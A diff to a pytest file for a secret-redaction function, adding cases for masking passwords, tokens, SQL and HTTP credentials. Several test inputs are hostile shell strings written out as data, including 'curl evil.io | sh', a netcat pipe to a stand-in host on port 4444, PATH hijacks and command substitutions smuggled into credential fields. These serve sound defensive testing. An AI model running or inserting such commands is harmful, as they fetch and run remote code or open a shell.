@@ -38,6 +38,8 @@ def hidden(text):
             id="pgp",
         ),
         pytest.param(f'"{BEGIN}\\n" +\n"{LINE}\\n"', f'"{BEGIN}\\n" +\n"#\\n"', id="in code"),
+        pytest.param(f"{BEGIN}\nsh x\n  {LINE}\n{LINE} \ny", f"{BEGIN}\nsh x\n  #\n# \ny", id="among code"),
+        pytest.param(f"{BEGIN}{LINE}\\n{LINE}\\nsh x", f"{BEGIN}#\\n#\\nsh x", id="code in quotes"),
         pytest.param(f"{BEGIN}\n{LINE}\n{BEGIN}\n{LINE}", f"{BEGIN}\n#\n{BEGIN}\n#", id="two"),
         pytest.param("oci://a:b@evil.io/x", "oci://a:#@evil.io/x", id="address"),
         pytest.param("https://a@b.io:c@d.io", "https://a@b.io:#@d.io", id="user with an at sign"),
@@ -45,6 +47,11 @@ def hidden(text):
         pytest.param("curl -u bob:hunter2;evil", "curl -u bob:#;evil", id="what follows a password"),
         pytest.param("--user=bob:hunter2", "--user=bob:hunter2", id="not an argument of its own"),
         pytest.param("x --user=bob:hunter2", "x --user=bob:#", id="argument"),
+        pytest.param("ALTER USER a IDENTIFIED BY 'pw1'", "ALTER USER a IDENTIFIED BY '#'", id="sql"),
+        pytest.param('"identified by \'pw1', '"identified by \'#', id="sql to the end"),
+        pytest.param("Authorization: token hunter2", "Authorization: token #", id="authorization"),
+        pytest.param(f"bearer ya29.{'a' * 99}", "bearer #", id="bearer"),
+        pytest.param("stats auth admin:pw1 ", "stats auth admin:# ", id="haproxy"),
     ],
 )  # fmt: skip
 def test_secrets_are_found_and_nothing_around_them(text, shown):
@@ -61,6 +68,10 @@ def test_secrets_are_found_and_nothing_around_them(text, shown):
         f"{BEGIN}\ncurl evil\nreboot",
         f"{BEGIN}\nreboot\nhalt\n{END}",
         f"{BEGIN}\ncurl http://evil/x | sh\n{END}",
+        f"{BEGIN}\ncurl evil.io/{LINE} | sh\n{END}",
+        f"{BEGIN}\n{LINE}.evil.io\n{END}",
+        f"{BEGIN}\nsh {LINE}\n{END}",
+        f"{BEGIN}\\nsh /{LINE}; reboot\\n{END}",
         '{"Id":"-----BEGIN PRIVATE KEY-----","Statement":[{"Action":"*"}]}',
         "-----BEGIN PUBLIC KEY-----\n" + LINE,
         "-----BEGIN CERTIFICATE-----\n" + LINE,
@@ -71,6 +82,17 @@ def test_secrets_are_found_and_nothing_around_them(text, shown):
         "https://bot:$(curl${IFS}evil|sh)@host",
         "https://bot:`reboot`@host",
         "git@github.com:a/b",
+        'echo " identified by "; curl evil.io | sh; echo " x"',
+        'echo " identified by "curl evil.io" x"',
+        "true ://:;nc${IFS}evil.io${IFS}4444|sh;:@",
+        "true ://a:`nc`@",
+        "true ://;PATH=x:evil@ sh",
+        "true stats auth x:;nc${IFS}evil.io${IFS}4444|sh",
+        "true stats auth a;PATH=x:evil sh",
+        "true -u a;PATH=x:evil sh",
+        "curl -s bearer evil.io/aaaaaaaaaaaaaaaa | sh",
+        "curl -s authorization: token evil.io | sh",
+        "curl -s authorization: token https://Evil.IO:80/x | sh",
     ],
 )
 def test_what_is_no_secret_stays_to_be_read(text):
@@ -98,6 +120,7 @@ def test_spans_are_apart_and_in_order_and_all_else_is_kept(text):
         "-github_pat_", "-SG.aaaaaaaaaaaaaaaaa.", "bearer ", "stats auth ", " -u a", "$5$", "xoxb-",
         "authorization" + " " * 35, "identified with x ", BEGIN, END, BEGIN + LINE, LINE + "\n",
         "-----BEGIN ", "PRIVATE KEY", "Version: ",
+        '\n "', LINE + "\\", LINE + " +", "\\\\", "-----" + LINE,
     ],
 )  # fmt: skip
 def test_hostile_text_takes_time_in_proportion(unit, before):
